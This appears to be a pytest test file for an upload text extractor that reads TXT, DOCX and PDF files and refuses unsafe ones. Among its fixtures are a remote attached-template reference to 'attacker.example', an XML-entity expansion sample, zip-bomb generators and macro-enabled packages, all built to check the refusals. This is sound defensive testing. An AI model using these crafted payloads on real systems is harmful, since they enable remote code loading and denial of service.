"""Reading an uploaded document's text (write/extract.py): TXT, DOCX and PDF built here as real files, and every
bad input of issue 21 refused in words before anything unsafe is opened."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile

import docx
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from pypdf import PdfWriter

from recommendations import i18n
from recommendations.write import errors, extract, office
from recommendations.write.extract import MAX_BYTES, MAX_PAGES, read_document

KHMER = "ការងារ សមរម្យ"  # "decent work"
KM = i18n.translator("km")


def refused(name: str, data: bytes) -> str:
    with pytest.raises(errors.Invalid) as caught:
        read_document(name, data)
    assert [e.field for e in caught.value.errors] == ["file"]
    return str(caught.value)


# --- files made here ---------------------------------------------------------------------------------------------


def pdf(pages: list[str | None], *, khmer: bool = False) -> bytes:
    """A small valid PDF written by hand: one page per item, its text drawn in Helvetica (None: an empty page).
    With ``khmer``, the text is drawn with one-byte codes that the font's ToUnicode map turns into Khmer letters
    (as a PDF made from Word with an embedded Khmer font carries them)."""
    chars = sorted({c for text in pages if text for c in text}) if khmer else []
    codes = {c: i + 1 for i, c in enumerate(chars)}
    objects: list[bytes] = []
    kids = []
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica"
    if khmer:
        cmap = (
            "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /K def "
            "1 begincodespacerange <00> <FF> endcodespacerange "
            f"{len(codes)} beginbfchar "
            + " ".join(f"<{code:02X}> <{ord(c):04X}>" for c, code in codes.items())
            + " endbfchar endcmap CMapName currentdict /CMap defineresource pop end end"
        ).encode()
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap))
        font += b" /ToUnicode 3 0 R"
    font += b" >>"
    first_page = 3 + len(objects)
    page_objects: list[bytes] = []
    for n, text in enumerate(pages):
        page_id, content_id = first_page + 2 * n, first_page + 2 * n + 1
        kids.append(b"%d 0 R" % page_id)
        lines = [] if text is None else text.split("\n")
        body = b"BT /F1 12 Tf 72 720 Td 14 TL "
        for line in lines:
            if khmer:
                body += b"<" + "".join(f"{codes[c]:02X}" for c in line).encode() + b"> Tj T* "
            else:
                body += b"(" + line.encode("latin-1").replace(b"(", b"\\(").replace(b")", b"\\)") + b") Tj T* "
        body += b"ET"
        page_objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> "
            b"/Contents %d 0 R >>" % (first_page + 2 * len(pages), content_id)
        )
        page_objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(body), body))
    everything = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(pages)),
        *objects,
        *page_objects,
        font,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(everything, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(everything) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(everything) + 1, xref)
    return bytes(out)


def blank_pdf(pages: int, *, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=72, height=72)
    if password:
        writer.encrypt(user_password=password, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def a_docx(build=None) -> bytes:
    document = docx.Document()
    document.add_paragraph("Recommendations of the national consultation")
    if build:
        build(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def patched(data: bytes, add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip package with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


# --- TXT ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_text_in_utf8_with_or_without_bom_reads_nfc_with_its_line_breaks(encoding):
    text = f"1. Cafe\u0301 owners\r\n2. {KHMER}\r\n\r\n3. Last line"
    got = read_document("outcome.txt", text.encode(encoding))
    assert got.kind == "txt" and got.pages is None and got.warnings == []
    assert got.text == f"1. Café owners\n2. {KHMER}\n\n3. Last line"
    assert unicodedata.is_normalized("NFC", got.text)


def test_text_that_is_not_utf8_is_refused_with_the_byte_offset():
    data = "Recommendations\n1. Caf\xe9".encode("latin-1")
    message = refused("outcome.txt", data)
    assert "byte 0xe9 at position 22 (counting from 0) is not UTF-8" in message
    assert data[22] == 0xE9


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("empty.txt", b"", "The file is empty"),
        ("blank.txt", b" \n\t\n", "The file is empty"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "old Word (.doc)"),
        ("outcome.rtf", b"{\\rtf1\\ansi hello}", "This is an RTF file"),
        ("picture.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a TXT, DOCX or PDF file"),
        ("outcome.pdf", b"1. plain text, named as a PDF", "named .PDF but is not a PDF file"),
        ("outcome.docx", b"1. plain text, named as a DOCX", "named .DOCX but is not a DOCX file"),
    ],
)
def test_files_of_another_kind_are_refused_in_words(name, data, words):
    assert words in refused(name, data)


def test_a_file_over_the_limit_is_refused_before_it_is_parsed(monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("parsed")

    monkeypatch.setattr(extract, "_kind", never)
    data = b"%PDF-1.7\n" + bytes(MAX_BYTES - 8)
    assert len(data) == MAX_BYTES + 1
    assert "documents are limited to 50 MB" in refused("big.pdf", data)


# --- PDF ---------------------------------------------------------------------------------------------------------


def test_a_pdf_text_layer_is_read_page_by_page():
    got = read_document("afml.pdf", pdf(["1. Ensure decent work", "for all migrant workers (a)"]))
    assert got.kind == "pdf" and got.pages == 2 and got.warnings == []
    assert got.text == "1. Ensure decent work\n\nfor all migrant workers (a)"


def test_a_khmer_pdf_text_layer_is_read_with_a_warning_to_compare_it():
    got = read_document("outcome.pdf", pdf([KHMER, "ក្រសួង"], khmer=True))
    assert got.text == f"{KHMER}\n\nក្រសួង"
    assert [str(w) for w in got.warnings] == [
        "Khmer text taken from a PDF is often out of order (vowel signs and subscript consonants placed before "
        "their consonant) or missing letters. Compare it with the document and correct it before you keep it."
    ]


def test_pages_without_text_among_pages_with_text_are_named():
    got = read_document("outcome.pdf", pdf(["1. First", None, "2. Third"]))
    assert got.text == "1. First\n\n\n\n2. Third" and got.pages == 3
    assert [str(w) for w in got.warnings] == [
        "Pages without text (images or scans, not read): 2. Type in any recommendation they hold."
    ]


@pytest.mark.parametrize("data", [pdf([None, None]), blank_pdf(1)], ids=["hand-made", "pypdf"])
def test_a_pdf_without_a_text_layer_is_refused_saying_to_paste_the_text(data):
    message = refused("scan.pdf", data)
    assert "has no text layer" in message and "Paste the text instead" in message


def test_an_encrypted_pdf_is_refused():
    message = refused("secret.pdf", blank_pdf(1, password="secret"))
    assert "The PDF is encrypted" in message


def test_a_pdf_over_the_page_limit_is_refused_with_the_limit():
    message = refused("long.pdf", blank_pdf(MAX_PAGES + 1))
    assert "The PDF has 2,001 pages; documents are limited to 2,000 pages" in message


def test_a_broken_pdf_is_refused_with_its_reason():
    assert "The PDF cannot be read (" in refused("broken.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog")


# --- DOCX --------------------------------------------------------------------------------------------------------


def _table_and_khmer(document):
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Recommendation"
    table.cell(0, 1).text = "Addressee"
    table.cell(1, 0).text = "Ratify C189"
    table.cell(1, 1).text = "RGC"
    merged = document.add_table(rows=1, cols=3)
    merged.cell(0, 0).merge(merged.cell(0, 2)).text = "A merged cell"
    document.add_paragraph("ក្រសួងការងារ").add_run(" e\u0301")
    link = document.add_paragraph("See ")
    part = document.part
    rel = part.relate_to("https://example.org/afml", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    hyperlink = OxmlElement("w:hyperlink")
    hyperlink.set(qn("r:id"), rel)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "the AFML page"
    run.append(text)
    hyperlink.append(run)
    link._p.append(hyperlink)


def test_docx_paragraphs_and_tables_read_in_document_order():
    got = read_document("outcome.docx", a_docx(_table_and_khmer))
    assert got.kind == "docx" and got.pages is None and got.warnings == []
    assert got.text.split("\n") == [
        "Recommendations of the national consultation",
        "Recommendation", "Addressee", "Ratify C189", "RGC",
        "A merged cell",
        "ក្រសួងការងារ é",
        "See the AFML page",  # a plain hyperlink is text, and allowed
    ]  # fmt: skip


def test_automatic_numbering_is_named_as_not_part_of_the_text():
    def numbered(document):
        paragraph = document.add_paragraph("Ensure decent work")
        properties = paragraph._p.get_or_add_pPr()
        numbering = OxmlElement("w:numPr")
        properties.append(numbering)

    got = read_document("outcome.docx", a_docx(numbered))
    assert got.text.endswith("Ensure decent work")
    assert "1 paragraphs are numbered by Word's automatic numbering" in str(got.warnings[0])


def test_a_docx_with_macros_is_refused():
    assert "holds macros (word/vbaProject.bin)" in refused(
        "outcome.docx", patched(a_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    )


def test_a_macro_enabled_docx_is_refused_by_its_content_type():
    original = zipfile.ZipFile(io.BytesIO(a_docx())).read("[Content_Types].xml")
    types = original.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert types != original
    message = refused("outcome.docx", patched(a_docx(), replace={"[Content_Types].xml": types}))
    assert "The file is macro-enabled (application/vnd.ms-word.document.macroEnabled.main+xml)" in message


ATTACHED_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


def test_a_docx_with_an_external_attached_template_is_refused():
    data = patched(a_docx(), add={"word/_rels/settings.xml.rels": ATTACHED_TEMPLATE})
    message = refused("outcome.docx", data)
    assert "links to something outside it (attachedTemplate: http://attacker.example/t.dotm)" in message


def test_a_docx_with_a_linked_ole_object_is_refused():
    rels = ATTACHED_TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(b"t.dotm", b"sheet.xlsx")
    message = refused("outcome.docx", patched(a_docx(), add={"word/_rels/extra.xml.rels": rels}))
    assert "(oleObject: http://attacker.example/sheet.xlsx)" in message


def test_a_docx_declaring_xml_entities_is_refused():
    body = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        b"<w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
    )
    message = refused("outcome.docx", patched(a_docx(), replace={"word/document.xml": body}))
    assert "The part word/document.xml of the file cannot be read (it declares XML entities" in message


def _bomb(parts: dict[str, int]) -> bytes:
    """A real DOCX with parts of so many MB of zeros added, written a megabyte at a time."""
    buffer = io.BytesIO(a_docx())
    buffer.seek(0, io.SEEK_END)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, megabytes in parts.items():
            with archive.open(name, "w") as part:
                for _ in range(megabytes):
                    part.write(bytes(1024 * 1024))
    return buffer.getvalue()


def test_a_docx_that_unpacks_beyond_the_limit_is_refused_before_it_is_opened():
    data = _bomb({"word/media/a.bin": 70, "word/media/b.bin": 70, "word/media/c.bin": 70})
    assert len(data) < 1024 * 1024
    assert "unpacks to more than 200 MB" in refused("bomb.docx", data)


def test_a_docx_part_inflating_more_than_the_ratio_is_refused():
    message = refused("bomb.docx", _bomb({"word/media/zeros.bin": 5}))
    assert "The part word/media/zeros.bin of the file inflates" in message and "as a zip bomb does" in message


def test_a_docx_of_too_many_parts_is_refused():
    buffer = io.BytesIO(a_docx())
    buffer.seek(0, io.SEEK_END)
    with zipfile.ZipFile(buffer, "a") as archive:
        for n in range(office.MAX_PARTS):
            archive.writestr(f"extra/item{n}.xml", b"")
    assert "more than 10,000 is refused" in refused("many.docx", buffer.getvalue())


def _understated(data: bytes, name: bytes, size: int) -> bytes:
    """The package with ``name``'s uncompressed size declared as ``size`` (local header and central directory)."""
    out = bytearray(data)
    # (signature, where the name's length is, where the name starts, where the uncompressed size is)
    for signature, length_at, name_at, size_at in ((b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)):
        position = 0
        while (header := out.find(signature, position)) >= 0:
            length = struct.unpack_from("<H", out, header + length_at)[0]
            if out[header + name_at : header + name_at + length] == name:
                struct.pack_into("<I", out, header + size_at, size)
            position = header + 4
    return bytes(out)


def test_a_part_that_inflates_beyond_its_declared_size_is_never_read_past_it():
    data = _understated(a_docx(), b"word/document.xml", 100)
    assert zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml").file_size == 100
    message = refused("lying.docx", data)
    assert "The part word/document.xml of the file is damaged (Bad CRC-32" in message


def test_a_workbook_or_another_zip_is_not_a_document():
    import openpyxl

    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    assert "This is a spreadsheet, not a document" in refused("sheet.xlsx", buffer.getvalue())
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert "not a DOCX document" in refused("archive.zip", other.getvalue())


# --- in Khmer ----------------------------------------------------------------------------------------------------

REFUSALS = {
    "encrypted": lambda: blank_pdf(1, password="secret"),
    "no text layer": lambda: blank_pdf(1),
    "macros": lambda: patched(a_docx(), add={"word/vbaProject.bin": b"macro"}),
    "attached template": lambda: patched(a_docx(), add={"word/_rels/settings.xml.rels": ATTACHED_TEMPLATE}),
    "not utf-8": lambda: b"Caf\xe9",
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_each_refusal_is_said_in_khmer(case):
    with pytest.raises(errors.Invalid) as caught:
        read_document("file", REFUSALS[case]())
    english = caught.value.by_field()["file"][0]
    khmer = caught.value.by_field(KM)["file"][0]
    assert khmer != english and i18n.in_script(khmer, "km")
